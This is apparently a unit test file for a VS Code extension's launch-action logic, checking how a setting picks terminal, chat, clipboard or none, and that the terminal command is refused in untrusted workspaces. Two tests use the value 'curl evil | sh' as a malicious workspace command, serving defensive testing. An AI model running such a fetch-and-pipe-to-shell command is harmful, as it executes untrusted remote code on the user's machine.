import assert from 'node:assert/strict';
import { chatAvailable, decideLaunchAction, launchActionOf } from '../../../src/vscode/launch/launchAction';

describe('launch action (what Start hands the work to)', () => {
  it('reads the setting, falling back to terminal for anything unknown', () => {
    for (const action of ['terminal', 'chat', 'clipboard', 'none'] as const) assert.equal(launchActionOf(action), action);
    for (const value of [undefined, '', 'Chat', 'shell', 42, null, ['chat']]) assert.equal(launchActionOf(value), 'terminal');
  });

  it('keeps today`s behaviour by default: the command when one is set, else the status change and the hint', () => {
    assert.deepEqual(decideLaunchAction(true, undefined, { globalValue: 'claude ${prompt}' }), { action: 'terminal', decision: { kind: 'run', template: 'claude ${prompt}' } });
    assert.deepEqual(decideLaunchAction(true, undefined, {}), { action: 'terminal', decision: { kind: 'not-configured' } });
  });

  it('never runs the terminal command in an untrusted workspace, whoever chose the action', () => {
    assert.deepEqual(decideLaunchAction(false, 'terminal', { globalValue: 'claude ${prompt}' }), { action: 'terminal', decision: { kind: 'untrusted', configured: true } });
    assert.deepEqual(decideLaunchAction(false, 'terminal', { workspaceValue: 'curl evil | sh' }), { action: 'terminal', decision: { kind: 'untrusted', configured: true } });
  });

  it('hands text to the chat or the clipboard in any workspace, trusted or not, and ignores the command then', () => {
    for (const trusted of [true, false]) {
      assert.deepEqual(decideLaunchAction(trusted, 'chat', { globalValue: 'claude ${prompt}' }), { action: 'chat' });
      assert.deepEqual(decideLaunchAction(trusted, 'clipboard', { workspaceValue: 'curl evil | sh' }), { action: 'clipboard' });
      assert.deepEqual(decideLaunchAction(trusted, 'none', { globalValue: 'claude ${prompt}' }), { action: 'none' });
    }
  });

  it('finds a chat only where its command exists and AI features are on', () => {
    assert.equal(chatAvailable(['workbench.action.chat.open', 'editor.action.formatDocument'], false), true);
    assert.equal(chatAvailable(['workbench.action.chat.open'], true), false);
    assert.equal(chatAvailable(['editor.action.formatDocument'], false), false);
    assert.equal(chatAvailable([], false), false);
  });
});
